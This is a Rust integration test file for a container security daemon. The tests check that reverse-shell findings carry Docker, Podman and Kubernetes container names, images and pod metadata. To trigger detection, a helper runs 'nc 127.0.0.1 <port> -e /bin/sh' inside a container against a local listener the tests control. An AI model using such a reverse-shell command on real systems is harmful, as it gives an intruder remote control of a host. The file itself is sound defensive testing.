//! Names and images of containers, as the runtimes have them on disk.

use std::process::{Command, Stdio};

use crate::attack::Identity;
use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::finding::Finding;
use crate::common::victim::Victim;
use crate::cri::{NAMESPACE, Pod};
use crate::docker::Docker;
use crate::image::NAME;
use crate::podman::Podman;
use crate::{require_containerd, require_docker, require_podman};

/// The finding of a reverse shell in a container, by a daemon that has been told where the runtime keeps its files.
fn found(key: &str, directory: &str, identity: Identity, start: &dyn Fn(&str) -> Command) -> Finding {
    // The tests' machine may be busy; nothing may be late.
    let daemon = Daemon::start(&format!("[enrich]\ndigest_wait_ms = 1000\n{key} = [\"{directory}\"]\n"));
    let attacker = Listener::tcp();
    let mut command = start(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    command.stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(command);
    let session = attacker.accept();
    let found = daemon.wait_for("the reverse shell", |record| record.peer_port() == Some(attacker.port()));
    identity.is_in(&found);
    drop((session, victim));
    found
}

/// Name and image, in both places.
fn named(found: &Finding, name: &str) {
    let container = &found.0["finding"]["containers"][0];
    let brief = found.0.to_string();
    assert_eq!((&container["name"], &container["uri"]), (&name.into(), &NAME.into()), "{brief}");
    assert_eq!(found.text("Container_Name"), name, "{brief}");
    assert_eq!(found.text("Container_Image_Uri"), NAME, "{brief}");
    assert_eq!(found.property("Enrichment_Status")["missing"], serde_json::json!([]), "{brief}");
}

#[test]
fn names_of_docker() {
    require_docker!();
    let container = Docker::shared().sleeper();
    let identity = Identity::new(&container.id, "docker");
    let root = container.docker.home.text("root");
    let found = found("docker_directories", &root, identity, &|line| container.exec(line));
    named(&found, &container.name);
    let own = &found.0["finding"]["containers"][0];
    assert!(own["imageId"].as_str().unwrap().starts_with("sha256:"), "{own}");
    assert!(own["createTime"].as_str().unwrap().ends_with('Z'), "{own}");
}

#[test]
fn names_of_podman() {
    require_podman!();
    let container = Podman::shared().sleeper("runc");
    let identity = Identity::new(&container.id, "podman");
    let root = container.podman.home.text("root");
    let found = found("storage_directories", &root, identity, &|line| container.exec(line));
    named(&found, &container.name);
}

#[test]
fn names_of_pods() {
    require_containerd!();
    let pod = Pod::run("sleep 600");
    let identity = Identity { pod_uid: &pod.uid, ..Identity::new(&pod.id, "containerd") };
    let state = pod.containerd.home.text("state");
    let found = found("containerd_directories", &state, identity, &|line| pod.exec(line));
    named(&found, "app");
    assert_eq!((found.text("Pod_Name"), found.text("Pod_Namespace")), (pod.name.as_str(), NAMESPACE));
    let own = &found.0["finding"]["kubernetes"]["pods"][0];
    assert_eq!((&own["name"], &own["ns"]), (&pod.name.as_str().into(), &NAMESPACE.into()), "{own}");
    assert_eq!(own["containers"][0]["name"], "app", "{own}");
}
